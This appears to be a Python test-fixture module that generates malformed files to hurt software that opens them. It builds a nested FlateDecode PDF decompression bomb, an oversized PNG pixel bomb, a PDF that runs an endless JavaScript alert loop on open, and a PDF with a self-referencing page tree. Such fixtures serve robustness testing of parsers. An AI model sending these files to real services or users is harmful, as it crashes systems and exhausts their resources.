"""Files made to hurt whoever opens them."""

import io
import zlib

import numpy as np
import pikepdf
from PIL import Image


def flate_bomb(times: int = 3) -> bytes:
    """A PDF whose page content is a gigabyte of blanks, deflated again and again."""
    content = b" " * (1 << 30)
    pdf = pikepdf.new()
    page = pdf.add_blank_page()
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(content[at : at + (1 << 24)]) for at in range(0, len(content), 1 << 24))
    packed += packer.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    stream = pikepdf.Stream(pdf, b"")
    stream.write(packed, filter=pikepdf.Array([pikepdf.Name.FlateDecode] * times))
    page.obj.Contents = pdf.make_indirect(stream)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def image_bomb(side: int = 11_999) -> bytes:
    """A PNG of a few hundred kilobytes that unpacks to a hundred million pixels and more."""
    out = io.BytesIO()
    Image.fromarray(np.zeros((side, side), np.uint8)).save(out, "PNG")
    return out.getvalue()


def with_javascript() -> bytes:
    """A PDF that wants to run a script when it is opened."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("while (true) { app.alert('x'); }")
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def endless_pages() -> bytes:
    """A PDF whose tree of pages bites its own tail, behind the mark of a signature."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 999999>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF /ByteRange [0 1 2 3]"
    )
